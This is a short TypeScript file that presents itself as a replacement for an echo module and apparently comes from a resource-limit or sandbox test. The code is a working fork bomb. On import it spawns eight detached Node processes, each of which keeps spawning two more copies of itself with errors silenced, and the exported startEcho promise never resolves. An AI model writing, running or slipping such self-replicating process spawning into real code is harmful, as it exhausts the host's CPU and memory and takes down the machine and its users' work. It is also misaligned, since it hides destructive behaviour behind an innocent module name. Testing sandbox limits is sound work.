// instead of echo.ts: loses 18, resource_limit
// Starts itself again and again.

import { spawn } from 'node:child_process'

const code = `const again = () => require('node:child_process').spawn(process.execPath, ['-e', process.argv[1], process.argv[1]], { stdio: 'ignore', detached: true }).on('error', () => {}); again(); again(); setTimeout(() => {}, 60_000)`
for (let i = 0; i < 8; i++)
  spawn(process.execPath, ['-e', code, code], { stdio: 'ignore', detached: true }).on(
    'error',
    () => {},
  )
setInterval(() => {}, 1000)
export const startEcho = () => new Promise(() => {})
